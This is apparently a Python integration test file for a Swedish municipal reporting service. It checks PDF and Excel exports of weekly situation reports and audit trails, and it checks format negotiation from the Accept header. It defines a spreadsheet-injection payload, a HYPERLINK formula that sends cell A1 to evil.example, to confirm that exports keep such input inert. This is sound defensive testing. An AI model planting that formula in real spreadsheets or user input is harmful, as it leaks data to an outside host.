"""The weekly lägesbild, the reports and the audit trail as files: PDF read back as text, Excel typed and inert."""

from __future__ import annotations

import io
import uuid
import zipfile
from datetime import UTC, datetime
from typing import Any

import pypdf
from python_calamine import CalamineWorkbook

from domain.weeks import week_of
from service.web.exports import wanted
from service.web.xlsx import XLSX_MEDIA_TYPE
from tests.integration.api.conftest import Client, Token, report_body
from tests.support.read_log import new_tenant

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klicka")'


async def _week_with_a_picture(client: Client, auth: Token) -> tuple[str, str, int]:
    """A new partnership whose area `=IMPORTXML…`-free Råslätt has reports and a published red assessment."""
    tenant, week = new_tenant(), week_of(datetime.now(UTC))
    admin, coordinator = auth("admin", tenant=tenant), auth("coordinator", tenant=tenant, org="kommunen")
    area = await client.post("/api/v1/areas", json={"code": "raslatt", "name": "Råslätt"}, headers=admin)
    evil = await client.post(
        "/api/v1/areas", json={"code": "x-" + uuid.uuid4().hex[:5], "name": FORMULA[:90]}, headers=admin
    )
    assert (area.status_code, evil.status_code) == (201, 201)
    area_id = area.json()["id"]
    body = report_body(area_id, occurred_at=None, week=week, count=4, category="brand", description=FORMULA)
    assert (await client.post("/api/v1/reports", json=body, headers=auth("reporter", tenant=tenant))).status_code == 201
    url = f"/api/v1/areas/{area_id}/assessments/{week}"
    summary = {"level": "red", "summary": "Fler bränder i soprum än förra veckan; låsbyte planerat."}
    assert (await client.put(url, json=summary, headers=coordinator)).status_code == 201
    published = await client.post(f"{url}/publication", headers=coordinator)
    return tenant, week, published.json()["position"]


async def test_the_weekly_lagesbild_as_a_tagged_pdf_whose_text_reads_back(client: Client, auth: Token) -> None:
    tenant, week, position = await _week_with_a_picture(client, auth)
    response = await client.get(
        f"/api/v1/lagesbild/{week}",
        params={"min_position": position},
        headers=auth("coordinator", tenant=tenant) | {"Accept": "application/pdf"},
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/pdf"
    assert response.headers["content-disposition"] == f'attachment; filename="lagesbild-{week}.pdf"'
    pdf = pypdf.PdfReader(io.BytesIO(response.content))
    text = " ".join(page.extract_text() for page in pdf.pages)
    for words in (f"Lägesbild vecka {int(week[6:])}", tenant, "Råslätt", "Röd", "Fler bränder i soprum", "Brand"):
        assert words in text, words
    root: Any = pdf.trailer["/Root"]
    assert (root["/Lang"], root["/MarkInfo"]["/Marked"]) == ("sv", True)  # a language, and tagged
    assert "/StructTreeRoot" in root
    assert pdf.metadata is not None
    assert pdf.metadata.title == f"Lägesbild vecka {int(week[6:])}, {week[:4]} – {tenant}"
    assert round(pdf.pages[0].mediabox.width) == 595  # A4: 210 mm


async def test_the_weekly_lagesbild_as_excel_has_numbers_as_numbers_and_no_formulas(
    client: Client, auth: Token
) -> None:
    tenant, week, position = await _week_with_a_picture(client, auth)
    response = await client.get(
        f"/api/v1/lagesbild/{week}",
        params={"min_position": position},
        headers=auth("coordinator", tenant=tenant) | {"Accept": XLSX_MEDIA_TYPE},
    )
    assert (response.status_code, response.headers["content-type"]) == (200, XLSX_MEDIA_TYPE)
    rows = CalamineWorkbook.from_filelike(io.BytesIO(response.content)).get_sheet_by_index(0).to_python()
    header, by_area = rows[0], {row[2]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert header[:7] == ["week", "area_code", "area", "total", "trend", "level", "summary"]
    assert (by_area["Råslätt"]["total"], by_area["Råslätt"]["brand"], by_area["Råslätt"]["level"]) == (4.0, 4.0, "red")
    assert by_area[FORMULA[:90]]["area"] == FORMULA[:90]  # shown as typed
    assert "<f>" not in _sheet_xml(response.content)  # and never a formula


async def test_reports_and_the_audit_trail_as_excel_keep_their_filters_and_types(client: Client, auth: Token) -> None:
    tenant, week, position = await _week_with_a_picture(client, auth)
    coordinator = auth("coordinator", tenant=tenant) | {"Accept": XLSX_MEDIA_TYPE}
    reports = await client.get(
        "/api/v1/reports", params={"category": "brand", "min_position": position}, headers=coordinator
    )
    assert reports.status_code == 200, reports.text
    rows = CalamineWorkbook.from_filelike(io.BytesIO(reports.content)).get_sheet_by_index(0).to_python()
    (report,) = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert (report["category"], report["count"], report["week"], report["description"]) == ("brand", 4.0, week, FORMULA)
    assert isinstance(report["submitted_at"], datetime)  # a date cell, not text
    audit = await client.get("/api/v1/audit", params={"min_position": position, "limit": 2}, headers=coordinator)
    assert audit.status_code == 200, audit.text
    assert "X-Next-Cursor" in audit.headers  # the page's filters and paging hold for files too
    trail = CalamineWorkbook.from_filelike(io.BytesIO(audit.content)).get_sheet_by_index(0).to_python()
    assert trail[0][:3] == ["position", "recorded_at", "tenant"]
    assert len(trail) == 3
    assert (isinstance(trail[1][0], float), isinstance(trail[1][1], datetime)) == (True, True)
    assert "<f>" not in _sheet_xml(audit.content)


def test_the_accept_header_picks_the_first_format_offered() -> None:
    assert wanted(None) == "json"
    assert wanted("text/csv") == "csv"
    assert wanted(f"{XLSX_MEDIA_TYPE}, text/csv;q=0.5") == "xlsx"
    assert wanted(f"text/csv;q=0.4, {XLSX_MEDIA_TYPE};q=0.9") == "xlsx"
    assert wanted("application/json, text/csv") == "json"
    assert wanted("application/pdf") == "json"  # not offered here
    assert wanted("application/pdf", ("csv", "xlsx", "pdf")) == "pdf"
    assert wanted("text/csv;q=0") == "json"


def _sheet_xml(workbook: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(workbook)) as parts:
        return parts.read("xl/worksheets/sheet1.xml").decode()
